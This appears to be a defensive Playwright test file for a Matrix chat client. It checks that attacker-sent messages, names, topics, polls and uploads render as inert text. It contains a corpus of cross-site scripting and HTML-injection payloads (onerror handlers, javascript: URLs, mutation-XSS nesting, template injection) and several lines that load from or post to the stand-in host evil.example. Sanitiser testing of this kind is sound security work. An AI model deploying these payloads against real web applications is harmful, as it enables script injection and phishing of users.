/** Whatever others write, name themselves or send: it is shown as text, runs nothing, and asks nobody for anything. */
import { afterAll, beforeAll, expect, test } from "vitest";
import type { Browser } from "playwright-core";
import {
  callServer,
  register,
  startServerProcess,
  type Account,
  type ServerProcess,
} from "../bench/server-process.js";
import { conversation, enter, openBrowser, type Person } from "./browser.js";

let server: ServerProcess;
let browser: Browser;
let victim: Person;
let attacker: Account;
beforeAll(async () => {
  server = await startServerProcess();
  browser = await openBrowser();
  attacker = await register(server.url, "mallory");
  victim = await enter(browser, server.url, "victim");
});
afterAll(async () => {
  await browser.close();
  await server[Symbol.asyncDispose]();
});

/** Each would call `hit` if it ran; what they stand for is in the name. */
const RUN = "globalThis.hit=(globalThis.hit||0)+1";
const CORPUS: readonly string[] = [
  `<script>${RUN}</script>`,
  `<img src=x onerror="${RUN}">`,
  `<svg onload="${RUN}"></svg>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin="${RUN}" attributeName=x dur=1s>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<iframe src="javascript:parent.${RUN}"></iframe>`,
  `<object data="javascript:${RUN}"></object>`,
  `<embed src="javascript:${RUN}">`,
  `<a href="javascript:${RUN}" id=bad>click</a>`,
  `<a href="java&#x09;script:${RUN}">click</a>`,
  `<a href=" &#14; javascript:${RUN}">click</a>`,
  `<a href="data:text/html,<script>${RUN}</script>">click</a>`,
  `<a href="/admin">click</a>`,
  `<form action="https://evil.example/"><input name=password><button>Sign in</button></form>`,
  `<button onclick="${RUN}">press</button>`,
  `<input autofocus onfocus="${RUN}">`,
  `<details open ontoggle="${RUN}"><summary>x</summary></details>`,
  `<video><source onerror="${RUN}"></video>`,
  `<math><mtext><table><mglyph><style><img src=x onerror="${RUN}"></style></mglyph></table></mtext></math>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<template><img src=x onerror="${RUN}"></template>`,
  `<style>@import "https://evil.example/x.css"; body{display:none}</style>`,
  `<link rel=stylesheet href="https://evil.example/x.css">`,
  `<meta http-equiv=refresh content="0;url=https://evil.example/">`,
  `<base href="https://evil.example/">`,
  `<div style="position:fixed;inset:0;background:url(https://evil.example/x.png)">over everything</div>`,
  `<span data-mx-color="red;background:url(https://evil.example/c)">c</span>`,
  `<span class="app is-guest primary">looks like the page</span>`,
  `<img src="https://evil.example/track.png">`,
  `<img src="mxc://hs1/aaaaaaaa" srcset="https://evil.example/s.png 2x">`,
  `<img name=body><a id=page></a><form id=location></form>`,
  `<p title='"><img src=x onerror=${RUN}>'>attribute</p>`,
  `<!--><img src=x onerror="${RUN}">-->`,
  `<xmp><img src=x onerror="${RUN}"></xmp>`,
  `<mx-reply><b>hidden</b></mx-reply>`,
  `${"<b>".repeat(3_000)}deep`,
  `{{constructor.constructor('${RUN}')()}}`,
  `\u202e<img src=x onerror="${RUN}">`,
];

async function invite(name: string, extra: object = {}): Promise<string> {
  const { room_id: room } = await callServer(server.url, "POST", "createRoom", attacker.token, {
    name,
    invite: ["@victim:hs1"],
    ...extra,
  });
  return String(room);
}

const send = (room: string, type: string, content: object) =>
  callServer(
    server.url,
    "PUT",
    `rooms/${encodeURIComponent(room)}/send/${type}/${Math.random()}`,
    attacker.token,
    content,
  );

/** The browser complains of what it has blocked in what is being sanitised; nothing else may be wrong. */
function expectNothingRan(): void {
  const { foreign, errors } = victim;
  expect({ foreign, errors: errors.filter((text) => !text.includes("The action has been blocked")) }).toEqual(
    {
      foreign: [],
      errors: [],
    },
  );
}

const hits = () => victim.page.evaluate(() => (globalThis as { hit?: number }).hit ?? 0);

test("formatted and plain messages, names, topics, reactions, polls and file names are text, and the specification's elements", async () => {
  const bad = CORPUS[1] ?? "";
  await callServer(server.url, "PUT", "profile/@mallory:hs1/displayname", attacker.token, {
    displayname: bad,
  });
  const room = await invite(bad, { topic: CORPUS[2] });
  await victim.page
    .getByRole("link", { name: /onerror/ })
    .first()
    .click();
  await victim.page.getByRole("button", { name: "Accept" }).click();
  await victim.page.getByRole("textbox", { name: /^Message to/ }).waitFor();

  const ids: string[] = [];
  for (const text of CORPUS) {
    const sent = await send(room, "m.room.message", {
      msgtype: "m.text",
      body: text,
      format: "org.matrix.custom.html",
      formatted_body: `${text}<em>after</em>`,
    });
    ids.push(String(sent["event_id"]));
    await send(room, "m.room.message", { msgtype: "m.text", body: text });
  }
  for (const key of CORPUS.slice(0, 5))
    await send(room, "m.reaction", {
      "m.relates_to": { rel_type: "m.annotation", event_id: ids.at(-1), key },
    });
  for (const msgtype of ["m.image", "m.file", "m.audio", "m.video", "m.emote", "m.location"])
    await send(room, "m.room.message", {
      msgtype,
      body: bad,
      filename: bad,
      url: "javascript:alert(1)",
      info: { mimetype: "text/html", w: "a", h: -1, size: {}, duration: "x", thumbnail_url: bad },
    });
  for (const content of [
    { msgtype: 5, body: [] },
    { body: null },
    { msgtype: "m.image" },
    { msgtype: "m.text", body: {} },
  ])
    await send(room, "m.room.message", content).catch((error: unknown) =>
      expect(String(error)).toMatch(/400/),
    );
  await send(room, "org.matrix.msc3381.poll.start", {
    "org.matrix.msc3381.poll.start": {
      question: { "org.matrix.msc1767.text": bad },
      answers: [{ id: bad, "org.matrix.msc1767.text": bad }, 5, null],
    },
  });
  await send(room, "m.room.message", { msgtype: "m.text", body: "the last one" });
  await conversation(victim.page).getByText("the last one", { exact: true }).waitFor();
  // The oldest are asked for once somebody scrolls there.
  const formatted = conversation(victim.page).locator(".formatted");
  await expect
    .poll(async () => {
      await conversation(victim.page).evaluate((log) => (log.scrollTop = 0));
      return formatted.count();
    })
    .toBe(CORPUS.length);
  const found = await conversation(victim.page).evaluate((log) => {
    const allowed = new Set([
      "href",
      "start",
      "class",
      "target",
      "rel",
      "tabindex",
      "data-mx-color",
      "data-mx-bg-color",
      "data-mx-spoiler",
    ]);
    const out: string[] = [];
    for (const element of log.querySelectorAll(".formatted *")) {
      if (
        /^(script|img|svg|iframe|object|embed|form|input|button|style|link|meta|base|video|template|math)$/i.test(
          element.tagName,
        )
      )
        out.push(element.tagName);
      for (const { name, value } of element.attributes) {
        if (!allowed.has(name)) out.push(`${element.tagName} ${name}`);
        if (name === "href" && !/^(https?|ftp|mailto|magnet|matrix):/i.test(value)) out.push(value);
        if (name === "class" && !/^(language-|spoiler$)/.test(value)) out.push(`class ${value}`);
      }
    }
    return out;
  });
  expect(found).toEqual([]);
  for (const screen of ["members", "settings", "search"]) {
    await victim.page.goto(`${server.url}/#/room/${encodeURIComponent(room)}/${screen}`);
    await victim.page.getByRole("complementary").waitFor();
  }
  expect(await hits()).toBe(0);
  expectNothingRan();
});

test("a file is saved and never opened in the page, whatever it calls itself", async () => {
  const upload = await fetch(`${server.url}/_matrix/media/v3/upload?filename=x.html`, {
    method: "POST",
    headers: { authorization: `Bearer ${attacker.token}`, "content-type": "text/html" },
    body: `<script>${RUN}</script>`,
  });
  const { content_uri: url } = (await upload.json()) as { content_uri: string };
  const room = await invite("files");
  await victim.page.goto(`${server.url}/#/room/${encodeURIComponent(room)}`);
  await victim.page.getByRole("button", { name: "Accept" }).click();
  for (const msgtype of ["m.file", "m.image", "m.video"])
    await send(room, "m.room.message", { msgtype, body: "page.html", url, info: { mimetype: "text/html" } });
  const files = conversation(victim.page).locator(".file").filter({ hasText: "page.html" });
  await expect.poll(() => files.count()).toBe(3);
  const [download] = await Promise.all([
    victim.page.waitForEvent("download"),
    files.first().getByRole("button", { name: "Download" }).click(),
  ]);
  expect([download.suggestedFilename(), await hits()]).toEqual(["page.html", 0]);
  expectNothingRan();
});
